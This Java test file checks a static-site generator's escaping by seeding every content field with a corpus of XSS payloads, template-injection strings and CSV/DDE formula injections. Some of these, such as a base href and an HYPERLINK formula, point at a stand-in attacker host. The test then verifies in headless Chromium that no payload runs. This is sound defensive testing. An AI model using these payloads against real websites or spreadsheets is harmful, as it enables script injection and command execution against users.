package vn.reviewportal.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.w3c.dom.Document;
import org.w3c.dom.NodeList;
import vn.reviewportal.TestBrowser;

/**
 * Hostile text in every field a content editor can fill: site title, description and notice,
 * organization names (which become chart labels, table cells, CSV cells and search entries),
 * period titles, group and level labels, sources, and every article field (title, author,
 * source, summary, tags, body with raw HTML, links and images). Each payload that could run
 * would call {@code window.__xss(n)}.
 *
 * <p>The site must build, no payload may reach a page, feed or chart as markup, CSV cells must
 * not start a spreadsheet formula, and in headless Chromium, with the page's Content Security
 * Policy switched off (so that escaping alone is tested) and a hook installed before any page
 * script, no payload may run on any page, nor in the search results.
 */
class InjectionCorpusTest {

    /** {@code N} is replaced by the payload's number, so that a run names the payload that ran. */
    static final List<String> PAYLOADS = List.of(
            "<script>window.__xss(N)</script>",
            "<img src=x onerror=window.__xss(N)>",
            "\"><svg onload=window.__xss(N)>",
            "'><img src=x onerror='window.__xss(N)'>",
            "</title><script>window.__xss(N)</script>",
            "</textarea><script>window.__xss(N)</script>",
            "</script><script>window.__xss(N)</script>",
            "javascript:window.__xss(N)",
            "<a href=\"javascript:window.__xss(N)\">bấm N</a>",
            "<iframe srcdoc=\"<script>parent.__xss(N)</script>\"></iframe>",
            "<details open ontoggle=window.__xss(N)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(N)>",
            "<svg><script>window.__xss(N)</script></svg>",
            "<object data=\"data:text/html,<script>parent.__xss(N)</script>\"></object>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss(N)\">",
            "<base href=\"http://tan-cong.example/\">N",
            "<style>@import 'http://tan-cong.example/N.css';</style>",
            "]]><script>window.__xss(N)</script><![CDATA[",
            "\"; window.__xss(N); \"",
            "'); window.__xss(N);//",
            "`${window.__xss(N)}`",
            "${7*7}N [=7*7] <#assign x=N>",
            "{{constructor.constructor('window.__xss(N)')()}}",
            "=HYPERLINK(\"http://tan-cong.example/N\",\"bấm\")",
            "+cmd|' /C calc'!AN",
            "-2+3+cmd|' /C calc'!AN",
            "@SUM(1+1)*cmd|' /C calc'!AN",
            "&lt;script&gt;window.__xss(N)&lt;/script&gt;",
            "&#60;img src=x onerror=window.__xss(N)&#62;",
            "<!-- N <script>window.__xss(N)</script> -->",
            "\u2028\u2029<script>window.__xss(N)</script>",
            "<img src=\"data:image/svg+xml,<svg onload=parent.__xss(N)>\">",
            "<form action=\"javascript:window.__xss(N)\"><button>gửi N</button></form>",
            "<input autofocus onfocus=window.__xss(N)>");

    private static final Pattern FRONT_MATTER_FIELD = Pattern.compile("(?m)^(title|author|source): .*$");

    @TempDir
    static Path work;

    @BeforeAll
    static void buildTheHostileSite() throws IOException {
        assertEquals(0, Cli.run(work, "sample", "--orgs", "36", "--periods", "1", "--articles", "3", "--seed", "7",
                "--out", "content").status());
        Path content = work.resolve("content");
        rewrite(content.resolve("site.yaml"), Pattern.compile("(?m)^(title|description|notice): .*$"), 0);
        rewrite(content.resolve("organizations.yaml"), Pattern.compile("name: \"[^\"]*\""), 3);
        try (Stream<Path> periods = Files.list(content.resolve("periods"))) {
            for (Path period : periods.toList()) {
                rewrite(period, Pattern.compile("label: (\"[^\"]*\"|[^}\\n]*)"), 7);
                rewrite(period, Pattern.compile("(?m)^(title|    source): .*$"), 19);
            }
        }
        try (Stream<Path> articles = Files.list(content.resolve("articles"))) {
            for (Path article : articles.toList()) {
                rewrite(article, FRONT_MATTER_FIELD, 11);
            }
        }
        for (int n = 0; n < PAYLOADS.size(); n++) {
            Files.writeString(content.resolve("articles/2025-06-%02d-bai-thu-%d.md".formatted(n % 28 + 1, n)),
                    article(n), StandardCharsets.UTF_8);
        }
        Cli.Run build = Cli.run(work, "build");
        assertEquals(0, build.status(), build.err());
    }

    private static String article(int n) {
        String p = payload(n);
        String next = payload(n + 1);
        return "---\n"
                + "title: " + yaml("Bài thử " + n + " " + p) + "\n"
                + "date: 2025-06-" + String.format("%02d", n % 28 + 1) + "T09:00:00+07:00\n"
                + "author: " + yaml(next) + "\n"
                + "source: " + yaml(payload(n + 2)) + "\n"
                + "summary: " + yaml("Tóm tắt " + payload(n + 3)) + "\n"
                + "tags: [" + yaml(payload(n + 4)) + ", thử nghiệm]\n"
                + "---\n\n"
                + "Đoạn văn có " + p + " ở giữa.\n\n"
                + p + "\n\n"
                + "[liên kết " + n + "](javascript:window.__xss(" + n + ")) và [thứ hai](JaVaScRiPt:window.__xss(" + n + "))"
                + " và [mã hóa](&#106;avascript:window.__xss(" + n + ")) và [dữ liệu](data:text/html;base64,"
                + "PHNjcmlwdD5wYXJlbnQuX194c3MoMCk8L3NjcmlwdD4=)\n\n"
                + "![ảnh " + n + "](javascript:window.__xss(" + n + ")) ![ảnh svg](data:image/svg+xml,<svg onload=parent.__xss("
                + n + ")>)\n\n"
                + "| Cột | " + next.replace("|", "\\|") + " |\n|---|---|\n| " + p.replace("|", "\\|") + " | 1 |\n";
    }

    static String payload(int n) {
        int i = Math.floorMod(n, PAYLOADS.size());
        return PAYLOADS.get(i).replace("N", Integer.toString(i));
    }

    /** Replaces the value of every match with the next payload, counting from {@code first}. */
    private static void rewrite(Path file, Pattern field, int first) throws IOException {
        String text = Files.readString(file, StandardCharsets.UTF_8);
        Matcher m = field.matcher(text);
        StringBuilder out = new StringBuilder();
        int n = first;
        while (m.find()) {
            String key = m.group().substring(0, m.group().indexOf(':') + 1);
            m.appendReplacement(out, Matcher.quoteReplacement(key + " " + yaml("Tên " + payload(n++))));
        }
        m.appendTail(out);
        Files.writeString(file, out.toString(), StandardCharsets.UTF_8);
    }

    private static String yaml(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> quoted.append("\\\"");
                case '\\' -> quoted.append("\\\\");
                case '\u2028' -> quoted.append("\\L");
                case '\u2029' -> quoted.append("\\P");
                default -> quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    private static List<Path> files(String ending) throws IOException {
        try (Stream<Path> walk = Files.walk(work.resolve("site"))) {
            return walk.filter(p -> p.toString().endsWith(ending)).sorted().toList();
        }
    }

    @Test
    void noPayloadReachesAPageFeedOrChartAsMarkup() throws IOException {
        List<Path> markup = new ArrayList<>(files(".html"));
        markup.addAll(files(".xml"));
        markup.addAll(files(".svg"));
        List<String> leaks = new ArrayList<>();
        for (Path file : markup) {
            String text = Files.readString(file, StandardCharsets.UTF_8);
            for (int n = 0; n < PAYLOADS.size(); n++) {
                String p = payload(n);
                boolean isMarkup = p.contains("<") && !p.startsWith("&");
                if (isMarkup && text.contains(p)) {
                    leaks.add(work.resolve("site").relativize(file) + ": " + p);
                }
            }
            for (String tag : List.of("<script>window", "<img src=x", "<svg onload", "<iframe", "<object", "<base ",
                    "<meta http-equiv=\"refresh", "<details open ontoggle", "<input autofocus", "<form action", "<math>", "<style>",
                    "href=\"javascript:", "href=\"data:", "src=\"data:", "src=\"javascript:", "href=\"&#106;")) {
                if (text.contains(tag)) {
                    leaks.add(work.resolve("site").relativize(file) + ": contains " + tag);
                }
            }
        }
        assertEquals(List.of(), leaks);
        assertTrue(files(".html").size() > PAYLOADS.size(), "a page per article at least");
    }

    @Test
    void theFeedAndEveryChartStayWellFormedXmlAndKeepTheTextExactly() throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        Document feed = factory.newDocumentBuilder().parse(work.resolve("site/feed.xml").toFile());
        NodeList titles = feed.getElementsByTagNameNS("http://www.w3.org/2005/Atom", "title");
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < titles.getLength(); i++) {
            texts.add(titles.item(i).getTextContent());
        }
        for (int n = 0; n < PAYLOADS.size(); n++) {
            assertTrue(texts.contains("Bài thử " + n + " " + payload(n)), "the feed holds title " + n + " as written");
        }
        List<Path> charts = files(".svg");
        assertFalse(charts.isEmpty());
        boolean labelSeen = false;
        for (Path chart : charts) {
            Document svg = factory.newDocumentBuilder().parse(chart.toFile());
            labelSeen |= svg.getDocumentElement().getTextContent().contains("Tên " + payload(7).substring(0, 10));
        }
        assertTrue(labelSeen, "a hostile group label is shown as text in a chart");
    }

    @Test
    void noCsvCellStartsASpreadsheetFormula() throws IOException {
        CsvMapper mapper = new CsvMapper();
        mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<String> formulas = new ArrayList<>();
        int cells = 0;
        for (Path csv : files(".csv")) {
            String text = Files.readString(csv, StandardCharsets.UTF_8).replace("\uFEFF", "");
            try (MappingIterator<String[]> rows = mapper.readerFor(String[].class).readValues(text)) {
                while (rows.hasNext()) {
                    for (String cell : rows.next()) {
                        cells++;
                        if (!cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0
                                || cell.startsWith("-") && !cell.matches("-?\\d+([.,]\\d+)?")) {
                            formulas.add(work.resolve("site").relativize(csv) + ": " + cell);
                        }
                    }
                }
            }
        }
        assertTrue(cells > 100, "the CSV files were read");
        assertEquals(List.of(), formulas);
    }

    @Test
    void noPayloadRunsInChromiumEvenWithTheContentSecurityPolicySwitchedOff() throws Exception {
        try (TestBrowser browser = TestBrowser.start()) {
            WebDriver driver = browser.driver();
            ChromeDriver chrome = (ChromeDriver) driver;
            chrome.executeCdpCommand("Page.setBypassCSP", Map.of("enabled", true));
            chrome.executeCdpCommand("Page.addScriptToEvaluateOnNewDocument", Map.of("source", """
                    (function () {
                      var record = function (what) {
                        var top = window.top || window;
                        try { (top.__ran = top.__ran || []).push(String(what) + ' @ ' + location.href); } catch (e) { }
                      };
                      window.__xss = record;
                      window.alert = window.confirm = window.prompt = function (m) { record('dialog ' + m); };
                    })();
                    """));
            Path bait = work.resolve("hook-check.html");
            Files.writeString(bait, "<!doctype html><title>x</title><img src=x onerror=window.__xss(99)>");
            driver.get(bait.toUri().toString());
            new WebDriverWait(driver, Duration.ofSeconds(10)).until(d -> !executions(d).isEmpty());
            assertEquals(1, executions(driver).size(), "the hook records a payload that runs");

            List<String> ran = new ArrayList<>();
            List<Path> pages = files(".html");
            for (Path page : pages) {
                driver.get(page.toUri().toString());
                ran.addAll(executions(driver));
                List<?> handlers = (List<?>) ((JavascriptExecutor) driver).executeScript("""
                        var found = [];
                        document.querySelectorAll('*').forEach(function (el) {
                          for (var i = 0; i < el.attributes.length; i++) {
                            var a = el.attributes[i];
                            if (/^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)) { found.push(el.tagName + ' ' + a.name); }
                          }
                          if (el.tagName === 'SCRIPT' && !el.src) { found.push('inline script'); }
                          if (el.tagName === 'IFRAME' || el.tagName === 'OBJECT' || el.tagName === 'BASE') { found.push(el.tagName); }
                        });
                        return found;""");
                for (Object handler : handlers) {
                    ran.add(work.resolve("site").relativize(page) + ": " + handler);
                }
            }
            driver.get(work.resolve("site/search.html").toUri().toString());
            var box = driver.findElement(By.cssSelector("input[type=search]"));
            for (String query : List.of("bai thu", "script", "onerror", "ten")) {
                box.clear();
                box.sendKeys(query, Keys.ENTER);
                new WebDriverWait(driver, Duration.ofSeconds(10)).withMessage("search for '" + query + "' lists pages")
                        .until(d -> !d.findElements(By.cssSelector("#search-results li")).isEmpty());
                ran.addAll(executions(driver));
            }
            assertEquals(List.of(), ran, "script that ran on " + pages.size() + " pages and in the search");
        }
    }

    @SuppressWarnings("unchecked")
    private static List<String> executions(WebDriver driver) {
        Object ran = ((JavascriptExecutor) driver).executeScript("return window.__ran || [];");
        return (List<String>) ran;
    }
}
